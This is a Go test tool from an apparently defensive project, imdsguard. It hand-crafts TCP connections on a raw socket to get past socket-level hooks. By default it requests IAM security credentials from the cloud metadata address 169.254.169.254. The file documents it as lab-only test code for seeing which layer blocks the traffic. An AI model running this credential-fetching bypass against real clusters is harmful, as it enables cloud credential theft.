// Command rawclient plays an attacker in a pod that holds CAP_NET_RAW and
// bypasses every socket-level hook (connect, sendmsg, ...): it hand-crafts a
// TCP connection on a raw IPv4 socket, the way a packet-crafting tool would.
// imdsguard's tests run it inside the test lab (see test/lab) to show which
// layer stops such traffic; it must never run outside a lab namespace.
//
// Usage:
//
//	rawclient -src IP -dst IP:PORT [-payload STRING] [-timeout 2s]
//
// It opens socket(AF_INET, SOCK_RAW, IPPROTO_TCP), bound to -src and
// connected to the -dst address (the kernel builds the IP header; rawclient
// builds the TCP header and its checksum over the pseudo-header), picks a
// random source port and initial sequence number, and then:
//
//  1. sends a SYN (re-sent every synInterval) and waits for the SYN-ACK,
//     reading raw TCP packets from the same socket and ignoring every packet
//     that is not from -dst to -src between the two ports;
//  2. sends the ACK, then the payload (Go string escapes such as \r\n are
//     interpreted) in PSH|ACK segments of at most the peer's MSS, re-sent
//     until the peer acknowledges them;
//  3. reads the peer's data segments in order, acknowledging each, until a
//     FIN (answered with FIN|ACK), a RST, an ICMP error, or the timeout.
//
// -timeout bounds the whole exchange. Only IPv4 is supported.
//
// The kernel of rawclient's own namespace knows nothing of the connection:
// it answers the peer's SYN-ACK (and data) with a RST. rawclient does not
// suppress that; the caller must, for example with an nftables rule in the
// namespace that drops outgoing RSTs (see the self-test).
//
// The result is one JSON line on stdout (see result):
//
//	{"syn_ack":true,"sent":true,"response":"HTTP/1.1 200 OK\r\n...","error":""}
//
// The exit status is 0 whenever rawclient ran (whatever happened on the
// wire; see "error") and 2 for bad flags.
package main

import (
	"encoding/binary"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"math/rand/v2"
	"net/netip"
	"os"
	"time"

	"golang.org/x/sys/unix"

	"github.com/imdsguard/imdsguard/test/escape"
)

const defaultPayload = `GET /latest/meta-data/iam/security-credentials/ HTTP/1.1\r\nHost: 169.254.169.254\r\nConnection: close\r\n\r\n`

const (
	// synInterval is how often an unanswered SYN is sent again.
	synInterval = 500 * time.Millisecond
	// dataRTO is the first retransmission timeout for the payload; it
	// doubles on every retransmission.
	dataRTO = 300 * time.Millisecond
	// ourMSS is the MSS rawclient announces in its SYN.
	ourMSS = 1460
	// defaultMSS is used when the SYN-ACK carries no MSS option (RFC 9293).
	defaultMSS = 536
	// ourWindow is the receive window rawclient advertises.
	ourWindow = 65535
	// maxResponse bounds how much of the response is kept.
	maxResponse = 1 << 20
)

// TCP flags.
const (
	flagFIN = 0x01
	flagSYN = 0x02
	flagRST = 0x04
	flagPSH = 0x08
	flagACK = 0x10
)

// result is the JSON line rawclient prints.
type result struct {
	// SynAck is true once a SYN-ACK acknowledging our SYN arrived.
	SynAck bool `json:"syn_ack"`
	// Sent is true once every payload segment was handed to the kernel.
	Sent bool `json:"sent"`
	// Response is the in-order data received from the peer.
	Response string `json:"response"`
	// Error says why the exchange ended other than with the peer's FIN
	// (timeout, RST, ICMP error, socket error); empty otherwise.
	Error string `json:"error"`
}

type config struct {
	src     netip.Addr
	dst     netip.AddrPort
	payload []byte
	timeout time.Duration
}

func main() {
	os.Exit(run(os.Args[1:], os.Stdout, os.Stderr))
}

func run(args []string, stdout, stderr io.Writer) int {
	cfg, err := parseArgs(args, stderr)
	if err != nil {
		if !errors.Is(err, flag.ErrHelp) {
			fmt.Fprintf(stderr, "rawclient: %v\n", err)
		}
		return 2
	}
	res := exchange(cfg)
	enc := json.NewEncoder(stdout)
	enc.SetEscapeHTML(false)
	if err := enc.Encode(res); err != nil {
		fmt.Fprintf(stderr, "rawclient: %v\n", err)
	}
	return 0
}

func parseArgs(args []string, stderr io.Writer) (*config, error) {
	fs := flag.NewFlagSet("rawclient", flag.ContinueOnError)
	fs.SetOutput(stderr)
	src := fs.String("src", "", "source `IP` (IPv4, an address of this namespace, e.g. the pod's)")
	dst := fs.String("dst", "", "destination `IP:PORT` (IPv4)")
	payload := fs.String("payload", defaultPayload, "bytes to send once connected, Go escapes allowed")
	timeout := fs.Duration("timeout", 2*time.Second, "bound on the whole exchange")
	if err := fs.Parse(args); err != nil {
		return nil, err
	}
	if fs.NArg() > 0 {
		return nil, fmt.Errorf("unexpected arguments: %q", fs.Args())
	}
	cfg := &config{timeout: *timeout}
	if *src == "" || *dst == "" {
		return nil, errors.New("-src and -dst are required")
	}
	var err error
	cfg.src, err = netip.ParseAddr(*src)
	if err != nil || !cfg.src.Is4() {
		return nil, fmt.Errorf("-src %q: want an IPv4 address", *src)
	}
	cfg.dst, err = netip.ParseAddrPort(*dst)
	if err != nil || !cfg.dst.Addr().Is4() || cfg.dst.Port() == 0 {
		return nil, fmt.Errorf("-dst %q: want IPv4:PORT with a non-zero port", *dst)
	}
	p, err := escape.Unescape(*payload)
	if err != nil {
		return nil, fmt.Errorf("-payload: %v", err)
	}
	if p == "" {
		return nil, errors.New("-payload must not be empty")
	}
	cfg.payload = []byte(p)
	if cfg.timeout <= 0 {
		return nil, errors.New("-timeout must be positive")
	}
	return cfg, nil
}

// segment is one TCP segment (header fields rawclient uses, and payload).
type segment struct {
	src, dst     [4]byte
	sport, dport uint16
	seq, ack     uint32
	flags        uint8
	window       uint16
	mss          uint16 // from the MSS option, 0 if absent
	payload      []byte
}

// checksum is the Internet checksum (RFC 1071) of the concatenation of
// parts, each of which but the last must have even length.
func checksum(parts ...[]byte) uint16 {
	var sum uint32
	for _, b := range parts {
		for len(b) >= 2 {
			sum += uint32(b[0])<<8 | uint32(b[1])
			b = b[2:]
		}
		if len(b) == 1 {
			sum += uint32(b[0]) << 8
		}
	}
	for sum > 0xffff {
		sum = sum&0xffff + sum>>16
	}
	return ^uint16(sum)
}

// pseudoHeader is the IPv4 pseudo-header for a TCP segment of length n.
func pseudoHeader(src, dst [4]byte, n int) []byte {
	var ph [12]byte
	copy(ph[0:4], src[:])
	copy(ph[4:8], dst[:])
	ph[9] = unix.IPPROTO_TCP
	binary.BigEndian.PutUint16(ph[10:12], uint16(n))
	return ph[:]
}

// marshal builds the TCP header (with an MSS option if s.mss is set), the
// payload and the checksum over the pseudo-header.
func (s *segment) marshal() []byte {
	hlen := 20
	if s.mss != 0 {
		hlen += 4
	}
	b := make([]byte, hlen+len(s.payload))
	binary.BigEndian.PutUint16(b[0:2], s.sport)
	binary.BigEndian.PutUint16(b[2:4], s.dport)
	binary.BigEndian.PutUint32(b[4:8], s.seq)
	binary.BigEndian.PutUint32(b[8:12], s.ack)
	b[12] = byte(hlen/4) << 4
	b[13] = s.flags
	binary.BigEndian.PutUint16(b[14:16], s.window)
	// b[16:18] checksum, b[18:20] urgent pointer: zero.
	if s.mss != 0 {
		b[20], b[21] = 2, 4 // kind MSS, length 4
		binary.BigEndian.PutUint16(b[22:24], s.mss)
	}
	copy(b[hlen:], s.payload)
	binary.BigEndian.PutUint16(b[16:18], checksum(pseudoHeader(s.src, s.dst, len(b)), b))
	return b
}

// parsePacket parses an IPv4 packet carrying TCP, as read from a raw
// AF_INET socket (IP header included). It does not verify the TCP
// checksum: on veths the kernel may hand over segments whose checksum is
// still to be completed by offload. Fragments are rejected.
func parsePacket(p []byte) (*segment, error) {
	if len(p) < 20 || p[0]>>4 != 4 {
		return nil, errors.New("not an IPv4 packet")
	}
	ihl := int(p[0]&0x0f) * 4
	total := int(binary.BigEndian.Uint16(p[2:4]))
	if ihl < 20 || total < ihl || total > len(p) {
		return nil, errors.New("bad IPv4 header")
	}
	if p[9] != unix.IPPROTO_TCP {
		return nil, errors.New("not TCP")
	}
	if binary.BigEndian.Uint16(p[6:8])&0x3fff != 0 { // MF or fragment offset
		return nil, errors.New("fragment")
	}
	s := &segment{}
	copy(s.src[:], p[12:16])
	copy(s.dst[:], p[16:20])
	t := p[ihl:total]
	if len(t) < 20 {
		return nil, errors.New("short TCP header")
	}
	off := int(t[12]>>4) * 4
	if off < 20 || off > len(t) {
		return nil, errors.New("bad TCP data offset")
	}
	s.sport = binary.BigEndian.Uint16(t[0:2])
	s.dport = binary.BigEndian.Uint16(t[2:4])
	s.seq = binary.BigEndian.Uint32(t[4:8])
	s.ack = binary.BigEndian.Uint32(t[8:12])
	s.flags = t[13]
	s.window = binary.BigEndian.Uint16(t[14:16])
	for opts := t[20:off]; len(opts) > 0; {
		kind := opts[0]
		if kind == 0 { // end of options
			break
		}
		if kind == 1 { // no-op
			opts = opts[1:]
			continue
		}
		if len(opts) < 2 || int(opts[1]) < 2 || int(opts[1]) > len(opts) {
			break
		}
		if kind == 2 && opts[1] == 4 {
			s.mss = binary.BigEndian.Uint16(opts[2:4])
		}
		opts = opts[opts[1]:]
	}
	s.payload = t[off:]
	return s, nil
}

// seqLT reports a < b in sequence-number arithmetic.
func seqLT(a, b uint32) bool { return int32(a-b) < 0 }

// seqLEQ reports a <= b in sequence-number arithmetic.
func seqLEQ(a, b uint32) bool { return int32(a-b) <= 0 }

// errTimeout is returned by conn.recv when its deadline passes.
var errTimeout = errors.New("timeout")

// conn is rawclient's side of one hand-made TCP connection.
type conn struct {
	fd           int
	src, dst     [4]byte
	sport, dport uint16
	buf          []byte
}

func (c *conn) send(flags uint8, seq, ack uint32, mss uint16, payload []byte) error {
	s := &segment{
		src: c.src, dst: c.dst, sport: c.sport, dport: c.dport,
		seq: seq, ack: ack, flags: flags, window: ourWindow, mss: mss, payload: payload,
	}
	sa := &unix.SockaddrInet4{Addr: c.dst}
	for {
		err := unix.Sendto(c.fd, s.marshal(), 0, sa)
		if errors.Is(err, unix.EINTR) {
			continue
		}
		if err != nil {
			return fmt.Errorf("send: %w", err)
		}
		return nil
	}
}

// recv returns the next segment of this connection (from dst:dport to
// src:sport), skipping everything else, or errTimeout at deadline. A socket
// error (for example an ICMP error reported on the connected socket) is
// returned as is.
func (c *conn) recv(deadline time.Time) (*segment, error) {
	for {
		left := time.Until(deadline)
		if left <= 0 {
			return nil, errTimeout
		}
		ms := int((left + time.Millisecond - 1) / time.Millisecond)
		pfd := []unix.PollFd{{Fd: int32(c.fd), Events: unix.POLLIN}}
		n, err := unix.Poll(pfd, ms)
		if errors.Is(err, unix.EINTR) {
			continue
		}
		if err != nil {
			return nil, fmt.Errorf("poll: %w", err)
		}
		if n == 0 {
			continue // re-checks the deadline
		}
		for {
			n, _, err := unix.Recvfrom(c.fd, c.buf, unix.MSG_DONTWAIT)
			if errors.Is(err, unix.EINTR) {
				continue
			}
			if errors.Is(err, unix.EAGAIN) {
				break
			}
			if err != nil {
				return nil, fmt.Errorf("recv: %w", err)
			}
			s, err := parsePacket(c.buf[:n])
			if err != nil || s.src != c.dst || s.dst != c.src || s.sport != c.dport || s.dport != c.sport {
				continue
			}
			// The buffer is reused: detach the payload.
			s.payload = append([]byte(nil), s.payload...)
			return s, nil
		}
	}
}

// exchange performs the whole attack and reports what happened.
func exchange(cfg *config) (res result) {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_TCP)
	if err != nil {
		res.Error = fmt.Sprintf("socket(AF_INET, SOCK_RAW, IPPROTO_TCP): %v", err)
		return res
	}
	defer unix.Close(fd)
	c := &conn{
		fd:    fd,
		src:   cfg.src.As4(),
		dst:   cfg.dst.Addr().As4(),
		sport: uint16(32768 + rand.IntN(61000-32768)), // Linux's default ephemeral range
		dport: cfg.dst.Port(),
		buf:   make([]byte, 65536),
	}
	// Binding makes the kernel use -src as the source address (and fails if
	// it is not an address of this namespace); connecting limits what the
	// socket receives to packets from -dst and makes ICMP errors for our
	// packets show up as socket errors.
	if err := unix.Bind(fd, &unix.SockaddrInet4{Addr: c.src}); err != nil {
		res.Error = fmt.Sprintf("bind %s: %v", cfg.src, err)
		return res
	}
	if err := unix.Connect(fd, &unix.SockaddrInet4{Addr: c.dst}); err != nil {
		res.Error = fmt.Sprintf("connect %s: %v", cfg.dst.Addr(), err)
		return res
	}
	deadline := time.Now().Add(cfg.timeout)
	var resp []byte
	defer func() { res.Response = string(resp) }()

	// 1. SYN -> SYN-ACK.
	iss := rand.Uint32()
	var irs uint32
	mss := uint16(defaultMSS)
	nextSYN := time.Now()
	for !res.SynAck {
		if !time.Now().Before(nextSYN) {
			if err := c.send(flagSYN, iss, 0, ourMSS, nil); err != nil {
				res.Error = "SYN: " + err.Error()
				return res
			}
			nextSYN = time.Now().Add(synInterval)
		}
		s, err := c.recv(earliest(deadline, nextSYN))
		switch {
		case errors.Is(err, errTimeout):
			if !time.Now().Before(deadline) {
				res.Error = "timeout waiting for SYN-ACK"
				return res
			}
			continue
		case err != nil:
			res.Error = "waiting for SYN-ACK: " + err.Error()
			return res
		}
		switch {
		case s.flags&flagRST != 0 && s.flags&flagACK != 0 && s.ack == iss+1:
			res.Error = "connection refused: RST in reply to SYN"
			return res
		case s.flags&(flagSYN|flagACK) == flagSYN|flagACK && s.ack == iss+1:
			res.SynAck = true
			irs = s.seq
			if s.mss != 0 {
				mss = min(s.mss, ourMSS)
			}
		}
	}
	sndNxt := iss + 1
	rcvNxt := irs + 1

	// 2. ACK, then the payload.
	if err := c.send(flagACK, sndNxt, rcvNxt, 0, nil); err != nil {
		res.Error = "ACK: " + err.Error()
		return res
	}
	sendPayload := func() error {
		seq := iss + 1
		for p := cfg.payload; len(p) > 0; {
			n := min(len(p), int(mss))
			flags := uint8(flagACK)
			if n == len(p) {
				flags |= flagPSH
			}
			if err := c.send(flags, seq, rcvNxt, 0, p[:n]); err != nil {
				return err
			}
			seq += uint32(n)
			p = p[n:]
		}
		return nil
	}
	if err := sendPayload(); err != nil {
		res.Error = "payload: " + err.Error()
		return res
	}
	res.Sent = true
	sndNxt += uint32(len(cfg.payload))

	// 3. Read the response until FIN.
	sndUna := iss + 1
	rto := dataRTO
	nextRexmit := time.Now().Add(rto)
	for {
		wait := deadline
		if seqLT(sndUna, sndNxt) {
			wait = earliest(deadline, nextRexmit)
		}
		s, err := c.recv(wait)
		if errors.Is(err, errTimeout) {
			if !time.Now().Before(deadline) {
				if len(resp) == 0 {
					res.Error = "timeout waiting for the response"
				} else {
					res.Error = "timeout waiting for FIN"
				}
				// Best effort: do not leave the peer's side open.
				_ = c.send(flagRST|flagACK, sndNxt, rcvNxt, 0, nil)
				return res
			}
			if err := sendPayload(); err != nil {
				res.Error = "payload retransmission: " + err.Error()
				return res
			}
			rto *= 2
			nextRexmit = time.Now().Add(rto)
			continue
		}
		if err != nil {
			res.Error = "waiting for the response: " + err.Error()
			return res
		}
		if s.flags&flagRST != 0 {
			res.Error = "connection reset by peer"
			return res
		}
		if s.flags&flagSYN != 0 {
			// Our ACK got lost and the SYN-ACK was repeated.
			if err := c.send(flagACK, sndNxt, rcvNxt, 0, nil); err != nil {
				res.Error = "ACK: " + err.Error()
				return res
			}
			continue
		}
		if s.flags&flagACK != 0 && seqLT(sndUna, s.ack) && seqLEQ(s.ack, sndNxt) {
			sndUna = s.ack
			rto = dataRTO
			nextRexmit = time.Now().Add(rto)
		}
		fin := false
		// Keep the in-order part of the segment (it may overlap what was
		// already received); anything beyond a gap is dropped and will be
		// retransmitted by the peer.
		end := s.seq + uint32(len(s.payload))
		if seqLEQ(s.seq, rcvNxt) && seqLT(rcvNxt, end) {
			data := s.payload[rcvNxt-s.seq:]
			if room := maxResponse - len(resp); room > 0 {
				resp = append(resp, data[:min(len(data), room)]...)
			}
			rcvNxt = end
		}
		if s.flags&flagFIN != 0 && end == rcvNxt {
			rcvNxt++
			fin = true
		}
		switch {
		case fin:
			// Acknowledge the FIN and close our side in one segment.
			if err := c.send(flagFIN|flagACK, sndNxt, rcvNxt, 0, nil); err != nil {
				res.Error = "FIN: " + err.Error()
			}
			return res
		case len(s.payload) > 0 || s.flags&flagFIN != 0:
			// New, duplicate or out-of-order data: (re-)acknowledge.
			if err := c.send(flagACK, sndNxt, rcvNxt, 0, nil); err != nil {
				res.Error = "ACK: " + err.Error()
				return res
			}
		}
	}
}

func earliest(a, b time.Time) time.Time {
	if b.Before(a) {
		return b
	}
	return a
}
